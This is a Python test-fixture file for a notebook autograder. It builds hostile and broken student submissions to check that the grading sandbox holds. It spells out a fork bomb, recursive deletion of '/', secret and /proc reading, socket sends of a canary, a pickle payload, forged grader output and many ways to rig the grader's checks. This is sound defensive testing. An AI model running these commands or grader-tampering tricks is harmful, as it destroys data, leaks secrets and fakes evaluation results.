@@ -1,0 +1,391 @@
+"""Hostile and broken hand-ins. In each, `kld` or the notebook is the culprit's; the rest of the notebook is honest.
+
+A case says what kld earns (None: the whole submission earns nothing), and the words that the report must have.
+"""
+
+import json
+from typing import NamedTuple
+
+from answers.handed_in import ASSIGNMENT, RIGHT, as_bytes, filled
+
+KLD = RIGHT["kld"]
+# Right shape, wrong numbers: what tampering would have to turn into full marks.
+ZERO = "def kld(mu, sigma):\n    return 0 * mu.sum(1)\n"
+EARNED_BY_ZERO = 3.0
+
+
+class Case(NamedTuple):
+    data: bytes
+    kld: float | None
+    words: str
+
+
+CASES = {}
+
+
+def answer(name, code, kld=0.0, words=""):
+    CASES[name] = Case(as_bytes(filled(**RIGHT | {"kld": code})), kld, words)
+
+
+def inside(name, body, kld=0.0, words="", before=""):
+    """An answer whose function runs this."""
+    lines = "\n".join("    " + line for line in body.strip().splitlines())
+    answer(name, f"{before}\ndef kld(mu, sigma):\n{lines}\n", kld, words)
+
+
+def tampering(name, code, words="worth a look"):
+    """The answer earns what its wrong numbers earn, whatever it does before."""
+    answer(name, code + "\n" + ZERO, EARNED_BY_ZERO, words)
+
+
+def handed_in(name, change, kld=10.0, words=""):
+    """A perfect notebook, changed."""
+    notebook = json.loads(json.dumps(filled(**RIGHT)))
+    CASES[name] = Case(as_bytes(change(notebook) or notebook), kld, words)
+
+
+# No end
+LATE = "timed out"
+inside("loop", "while True: pass", words=LATE)
+answer("loop in the cell", "while True: pass\n" + KLD, words=LATE)
+inside(
+    "loop that ignores signals",
+    "while True: pass",
+    words=LATE,
+    before="import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n    except Exception: pass",
+)
+inside(
+    "loop that catches all",
+    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
+    words=LATE,
+)
+inside("sleep", "import time\ntime.sleep(1000)", words=LATE)
+inside("regular expression", "import re\nre.match('(a+)+$', 'a' * 60 + 'b')", words=LATE)
+inside("no end of recursion", "return kld(mu, sigma)", words="flagged|graded")
+inside("no end of c recursion", "x = ()\nfor _ in range(10**6): x = (x,)\nreturn repr(x)")
+
+# Ends
+inside("exit", "exit()", words="killed")
+inside("sys.exit", "import sys\nsys.exit(0)", words="killed")
+answer("os._exit in the cell", "import os\nos._exit(0)\n" + KLD, words="killed")
+inside("segmentation fault", "import ctypes\nctypes.string_at(0)", words="SIGSEGV")
+inside("abort", "import os\nos.abort()", words="SIGABRT")
+inside("kills itself", "import os\nos.kill(os.getpid(), 9)", words="SIGKILL")
+answer(
+    "kills its parent", "import os\ntry: os.kill(os.getppid(), 9)\nexcept OSError: pass\n" + KLD, 10.0, "mentions os"
+)
+answer("kills all", "import os\nos.kill(-1, 9)\n" + KLD, words="killed")
+answer("kills the first", "import os\nos.kill(1, 9)\nos.kill(2, 9)\n" + KLD, words="killed")
+
+# Memory, processes, output, disk
+inside("30 GB", "return torch.ones(4 * 10**9, 2)", words="")
+inside("memory, slowly", "kept = []\nwhile True: kept.append(bytearray(10**8))")
+answer(
+    "memory of many processes",
+    "import os, time\nfor i in range(12):\n    if os.fork() == 0:\n        kept = b'x' * 400_000_000\n        time.sleep(99)\n"
+    "time.sleep(99)",
+    words="memory|timed out",
+)
+answer("fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", words="processes|timed out")
+answer(
+    "daemon",
+    "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(1000)\n    os._exit(0)\n"
+    + KLD,
+    10.0,
+    "mentions",
+)
+answer("a program left running", "import subprocess\nsubprocess.Popen(['sleep', '1000'])\n" + KLD, 10.0, "subprocess")
+inside(
+    "threads", "import threading, time\nfor _ in range(10**5): threading.Thread(target=time.sleep, args=[99]).start()"
+)
+inside("prints without end", "while True: print('x' * 10**6)")
+inside(
+    "100 MB of output",
+    "print('x' * 10**8)\n" + "return " + "0.5 * (mu**2 + sigma**2 - 1 - (sigma**2).log()).sum(1)",
+    10.0,
+)
+inside("500 MB come back", "return torch.zeros(125_000_000)", words="came back|memory")
+inside("deep lists come back", "x = []\nfor _ in range(900): x = [x]\nreturn x", words="flagged|graded")
+inside("a list that holds itself", "x = []\nx.append(x)\nreturn x", words="flagged|graded|killed")
+inside(
+    "full disk",
+    "try:\n    while True: open(f'/tmp/{i}', 'wb').write(bytes(10**7)); i += 1\nexcept OSError as error: raise ValueError(error)",
+    before="i = 0",
+    words="open",
+)
+
+# Files
+for name, command in {
+    "deletes all": "import shutil\nfor p in ('/tmp', '/root', '/home', '/usr', '/'): shutil.rmtree(p, ignore_errors=True)",
+    "writes everywhere": "import os\nfor d in SECRETS:\n    try: open(d, 'w').write('0')\n    except OSError: pass",
+    "sets the gradebook to 0": "import sqlite3\nfor d in SECRETS:\n    try: sqlite3.connect(d).execute('update grade set "
+    "auto_score = 0')\n    except sqlite3.Error: pass",
+    "locks the gradebook": "import sqlite3\nfor d in SECRETS:\n    try: sqlite3.connect(d).execute('begin exclusive')\n"
+    "    except sqlite3.Error: pass",
+    "uses nbgrader": "try:\n    from nbgrader.api import Gradebook\n    Gradebook('sqlite:///' + SECRETS[0])\n"
+    "except BaseException: pass",
+    "mounts": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000 | 0x20000)\n"
+    "libc.mount(b'none', b'/usr', None, 4096 | 32, None)\nlibc.setuid(0)\nopen('/tmp/x', 'w').write('')",
+    "traces its parent": "import ctypes, os\nfor p in (os.getppid(), 1, 2): ctypes.CDLL(None).ptrace(16, p, 0, 0)",
+}.items():
+    answer(name, f"SECRETS = __SECRETS__\n{command}\n{KLD}", 10.0, "worth a look|graded")
+
+for name, command in {
+    "reads files": "seen = []\nfor d in SECRETS:\n    try: seen.append(open(d).read())\n    except OSError: pass",
+    "reads the environment": "import os\nseen = [dict(os.environ)]",
+    "reads other processes": "import glob\nseen = []\nfor p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/*/cmdline') + "
+    "glob.glob('/proc/*/maps'):\n    try: seen.append(open(p, errors='replace').read())\n    except OSError: pass",
+    "lists folders": "import os\nseen = [os.path.join(d, f) for r in ('/root', '/home', '/tmp', '/work', '/var', '/etc') "
+    "for d, _, fs in os.walk(r) if '/.pyenv' not in d and 'site-packages' not in d and '/lib/python' not in d for f in fs]",
+    "reads its own memory": "seen = []\nwith open('/proc/self/mem', 'rb') as mem:\n  for line in open('/proc/self/maps'):\n"
+    "    a, b = (int(x, 16) for x in line.split()[0].split('-'))\n    if 'heap' in line:\n      mem.seek(a)\n"
+    "      data = mem.read(b - a)\n      seen += [s for s in (b'CANARY', b'why-the-blob', b'Bernoulli') if s[1:] in data and "
+    "data.count(s) > 1]",
+    "searches open files": "import os\nseen = [os.readlink(f'/proc/self/fd/{n}') for n in os.listdir('/proc/self/fd') if "
+    "os.path.lexists(f'/proc/self/fd/{n}')]",
+}.items():
+    indented = "\n".join("    " + line for line in command.splitlines())
+    answer(
+        name,
+        f"SECRETS = __SECRETS__\ndef kld(mu, sigma):\n{indented}\n    raise ValueError('SEEN ' + str(seen)[-280:])",
+        0.0,
+        "",
+    )
+
+# The network
+answer(
+    "sockets",
+    "import socket\nfor a in (('127.0.0.1', __PORT__), ('192.0.2.1', 80)):\n    try:\n        s = socket.create_connection(a, 1)\n"
+    "        s.sendall(b'CANARY')\n    except OSError: pass\n" + KLD,
+    10.0,
+    "socket",
+)
+answer(
+    "unix sockets",
+    "import socket\nfor a in ('\\0vae-grade-canary', *__SECRETS__):\n    try:\n        s = socket.socket(socket.AF_UNIX)\n"
+    "        s.connect(a)\n        s.sendall(b'CANARY')\n    except OSError: pass\n" + KLD,
+    10.0,
+    "socket",
+)
+
+# The judge
+tampering("replaces allclose", "torch.allclose = lambda *a, **k: True", "replaces something")
+tampering("replaces torch", "import sys\nfrom unittest.mock import MagicMock\nsys.modules['torch'] = MagicMock()")
+tampering(
+    "replaces the caller's parts",
+    "import vae_lib.checks.check as c\nc.NOTHING['seeded'] = False\nc._judge = c.same = lambda *a, **k: True",
+)
+tampering("replaces the check", "from vae_lib import checks\nchecks.kld = lambda f: 10\nchecks.kld.points = 10")
+tampering(
+    "strips asserts",
+    "import ast\nip = get_ipython()\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, n): return None\n"
+    "ip.ast_transformers.append(T())",
+)
+tampering(
+    "replaces json", "import json\nkept = json.dumps\njson.dumps = lambda x, **k: kept(x, **k)", "replaces something"
+)
+tampering("patches the shell", "get_ipython().user_ns['result'] = 10\nget_ipython().run_cell = None")
+tampering("traces", "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)")
+inside(
+    "equal to everything",
+    "return 0 * mu.sum(1).as_subclass(Yes)",
+    EARNED_BY_ZERO,
+    "__eq__",
+    before="class Yes(torch.Tensor):\n    __eq__ = lambda *a: True\n    __ne__ = lambda *a: False\n    __hash__ = None",
+)
+inside(
+    "answers for torch",
+    "return (0 * mu.sum(1)).as_subclass(Yes)",
+    EARNED_BY_ZERO,
+    "__torch_function__",
+    before="class Yes(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n"
+    "        if f is torch.allclose: return True\n        return super().__torch_function__(f, types, args, kwargs or {})",
+)
+SEARCHES = {
+    "imports the oracle": "import importlib, sys\nfor m in [m for m in sys.modules if 'checks' in m]: del sys.modules[m]\n"
+    "try: found = importlib.import_module('vae_lib.checks.loss')._kld\nexcept (ImportError, AttributeError): pass",
+    "reads the oracle's file": "import glob, sysconfig, vae_lib, os\nfor d in (os.path.dirname(vae_lib.__file__), "
+    "sysconfig.get_path('purelib')):\n    for p in glob.glob(d + '/**/*', recursive=True):\n        if 'checks' in p and "
+    "p.endswith(('.py', '.pyc')) and 'vae_lib' in p and open(p, 'rb').read(): found = p",
+    "searches memory for the oracle": "import gc\nfor o in gc.get_objects():\n    try:\n        if type(o).__name__ in ('Check', "
+    "'Mistake') or getattr(o, '__name__', '') == '_kld': found = o\n    except Exception: pass",
+    "searches frames for the oracle": "import sys\nf = sys._getframe()\nwhile f:\n    if '_kld' in f.f_globals or 'oracle' in "
+    "f.f_globals or 'oracle' in f.f_locals: found = f\n    f = f.f_back",
+}
+for name, search in SEARCHES.items():
+    # Where the search finds something, the answer is right; it must not be.
+    body = "\n".join("    " + line for line in search.splitlines())
+    right = "0.5 * (mu**2 + sigma**2 - 1 - (sigma**2).log()).sum(1)"
+    code = f"def kld(mu, sigma):\n    found = None\n{body}\n    return {right} if found is not None else 0 * mu.sum(1)"
+    answer(name, code, EARNED_BY_ZERO, "worth a look")
+
+for name, value in {
+    "NaN": "mu.sum(1) * float('nan')",
+    "negative": "-1e30 + 0 * mu.sum(1)",
+    "huge": "1e308 + 0 * mu.sum(1).double()",
+    "infinite": "float('inf') + 0 * mu.sum(1)",
+}.items():
+    inside(f"{name} comes back", f"return {value}", {"huge": 3.0}.get(name, 3.0), "graded|flagged")
+for name, value in {
+    "text": "'10/10'",
+    "nothing": "None",
+    "a boolean": "True",
+    "a score": "10.0",
+    "a class": "type('Score', (float,), {})(10)",
+    "a dict with odd keys": "{'tensor': 'AAAA', 'dtype': 'O', 'shape': [-1], 'error': None}",
+}.items():
+    inside(f"{name} comes back", f"return {value}", 0.0, "graded|flagged")
+
+WRITE = """
+import json, os
+def forge(text):
+    for n in range(3, 64):
+        try:
+            if os.readlink(f'/proc/self/fd/{n}').startswith('pipe:'): os.write(n, text.encode())
+        except OSError: pass
+    os._exit(0)
+"""
+ONE = "{'value': VALUE, 'gradients': {}, 'changed': [], 'seeded': False, 'device': None, 'error': None}"
+for name, text in {
+    "points": "json.dumps({'points': 10, 'outcomes': [], 'helped': False, 'state': 'right'})",
+    "no shape": "'10'",
+    "not JSON": "'{' * 10**6",
+    "deep JSON": "'[' * 10**5 + ']' * 10**5",
+    "a pickle": "'cposix\\nsystem\\n(Stouch /tmp/CANARY\\ntR.'",
+    "objects": "json.dumps({'outcomes': [%s] * 4, 'helped': False})"
+    % ONE.replace("VALUE", "{'tensor': 'AAAAAAAAAAA=', 'dtype': 'O', 'shape': [1]}"),
+    "a wrong size": "json.dumps({'outcomes': [%s] * 4, 'helped': False})"
+    % ONE.replace("VALUE", "{'tensor': 'AAAAAAAAAAA=', 'dtype': 'float32', 'shape': [10**12]}"),
+    "NaN as JSON": "json.dumps({'outcomes': [%s] * 4, 'helped': False})" % ONE.replace("VALUE", "float('nan')"),
+    "a huge number": "'{\"outcomes\": [' + '9' * 10**5 + '], \"helped\": false}'",
+    "a format": "json.dumps({'outcomes': [{'value': None, 'gradients': {}, 'changed': [], 'seeded': False, 'device': None, "
+    "'error': {'type': '{0.__class__}', 'message': '{x}<script>', 'line': '%s%n'}}] * 4, 'helped': False})",
+}.items():
+    answer(f"forges {name}", WRITE + f"forge({text})\n{KLD}", 0.0, "")
+
+
+# Cells and their metadata: nothing of it costs a point
+def cell(notebook, name):
+    return next(cell for cell in notebook["cells"] if cell["id"] == name)
+
+
+def each_mark(change):
+    def apply(notebook):
+        for one in notebook["cells"]:
+            if "nbgrader" in one["metadata"]:
+                change(one)
+
+    return apply
+
+
+def old_format(notebook):
+    cells = [
+        {
+            "cell_type": c["cell_type"],
+            "metadata": c["metadata"],
+            "input": c["source"],
+            "outputs": [],
+            "language": "python",
+        }
+        if c["cell_type"] == "code"
+        else {"cell_type": "markdown", "metadata": c["metadata"], "source": c["source"]}
+        for c in notebook["cells"]
+    ]
+    return {
+        "nbformat": 3,
+        "nbformat_minor": 0,
+        "metadata": {"name": ""},
+        "worksheets": [{"cells": cells, "metadata": {}}],
+    }
+
+
+def extra(source, at, kind="code"):
+    new = {"cell_type": kind, "id": "mine", "metadata": {}, "source": source, "outputs": [], "execution_count": None}
+
+    def apply(notebook):
+        order = [one["id"] for one in notebook["cells"]]
+        notebook["cells"].insert(order.index(at), dict(new))
+
+    return apply
+
+
+def doubled(source):
+    def apply(notebook):
+        copied = json.loads(json.dumps(cell(notebook, "kld"))) | {"id": "copied", "source": source}
+        notebook["cells"].insert(2, copied)
+
+    return apply
+
+
+EMPTY_KLD = next(one.source for one in ASSIGNMENT.cells if one["id"] == "kld")
+handed_in("an edited test cell", lambda n: cell(n, "test-kld").update(source="10"), words="test-kld was changed")
+handed_in("a doubled cell, empty", doubled(EMPTY_KLD), words="there 2 times")
+handed_in(
+    "a doubled cell, empty, below", lambda n: n["cells"].append(dict(cell(n, "kld"), source=EMPTY_KLD)), words="2 times"
+)
+handed_in("a deleted answer", lambda n: n["cells"].remove(cell(n, "kld")), 0.0, "kld is missing")
+handed_in("a deleted test", lambda n: n["cells"].remove(cell(n, "test-kld")))
+handed_in("a renamed grade id", lambda n: cell(n, "kld")["metadata"]["nbgrader"].update(grade_id="mine"))
+handed_in("a renamed cell", lambda n: cell(n, "kld").update(id="x", metadata={}), words="function's name")
+handed_in("more points", each_mark(lambda c: c["metadata"]["nbgrader"].update(points=1e6)))
+handed_in("points that are text", each_mark(lambda c: c["metadata"]["nbgrader"].update(points="nan")))
+handed_in("no locks", each_mark(lambda c: c["metadata"]["nbgrader"].update(locked=False, grade=False)))
+handed_in("an old schema", each_mark(lambda c: c["metadata"]["nbgrader"].update(schema_version=1)))
+handed_in("no marks", each_mark(lambda c: c["metadata"].pop("nbgrader")))
+handed_in(
+    "no marks, no ids", each_mark(lambda c: (c["metadata"].pop("nbgrader"), c.pop("id"))), words="function's name"
+)
+handed_in("odd metadata", lambda n: [c.update(metadata=[1, None]) for c in n["cells"]] and None)
+handed_in("cells in another order", lambda n: n["cells"].reverse())
+handed_in("nbformat 3", old_format, words="function's name|graded")
+handed_in("nbformat from the future", lambda n: n.update(nbformat=7))
+handed_in("an answer as text", lambda n: cell(n, "kld").update(cell_type="markdown"))
+handed_in("another's grade id", lambda n: cell(n, "test-bce")["metadata"]["nbgrader"].update(grade_id="test-kld"))
+handed_in("half a letter", lambda n: cell(n, "kld").update(source=KLD + "\n# \ud800"))
+handed_in("outputs of 60 MB", lambda n: cell(n, "kld").update(outputs=[{"text": "x" * 60_000_000}]))
+answer("a null byte", KLD + "\n\0", 0.0, "")
+
+# Honest oddities: they cost nothing
+answer(
+    "a warning",
+    "import warnings\nwarnings.warn('old')\n" + KLD.replace("    var", "    warnings.warn('x')\n    var", 1),
+    10.0,
+)
+answer("a print", "print('here')\n" + KLD.replace("    var", "    print(mu)\n    var", 1), 10.0)
+answer("magics", "%matplotlib inline\n!ls\n" + KLD + "\n%time kld(mu, sigma)\ndisplay(kld(mu, sigma))", 10.0)
+answer("a check in the answer", KLD + "\nchecks.kld(kld)\nchecks.kld.hint(1)\nresult = checks.kld(kld)", 10.0, "checks")
+answer("a failing line below", KLD + "\n\nkld(1, 2, 3)", 10.0)
+answer("top-level await", "import asyncio\nawait asyncio.sleep(0)\n" + KLD, 10.0)
+handed_in("an extra cell", extra("1 / 0", "kld"))
+handed_in("an extra cell with a loop", extra("while True: pass", "kld"))
+
+
+def with_helper(notebook):
+    extra("def square(a):\n    return a * a", "kld")(notebook)
+    cell(notebook, "kld")["source"] = KLD.replace("sigma.square()", "square(sigma)")
+
+
+def with_import(notebook):
+    cell(notebook, "04_bce_vs_kld-02")["source"] += "\nimport numpy as np"
+    cell(notebook, "kld")["source"] = KLD.replace("0.5", "np.float32(0.5).item()")
+
+
+handed_in("a helper in an extra cell", with_helper, words="needs other cells")
+handed_in("an import among the first cells", with_import, words="needs other cells")
+
+# Files
+PERFECT = as_bytes(filled(**RIGHT))
+for name, data, points, words in (
+    ("an empty file", b"", None, "empty"),
+    ("spaces", b"  \n", None, "empty"),
+    ("half a file", PERFECT[: len(PERFECT) // 2], None, "not JSON"),
+    ("a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9, None, "not JSON"),
+    ("another notebook", b'{"cells": [], "nbformat": 4}', None, "no cell"),
+    ("a list", b"[1, 2]", None, "no cells"),
+    ("text", b'"hello"', None, "no cells"),
+    ("deep JSON", b"[" * 10**6, None, "not JSON"),
+    ("a merge conflict", PERFECT.replace(b'"cells"', b'<<<<<<< HEAD\n"cells"', 1), None, "not JSON"),
+    ("a byte order mark", b"\xef\xbb\xbf" + PERFECT, 10.0, ""),
+    ("UTF-16", PERFECT.decode().encode("utf-16"), 10.0, ""),
+):
+    CASES[name] = Case(data, points, words)
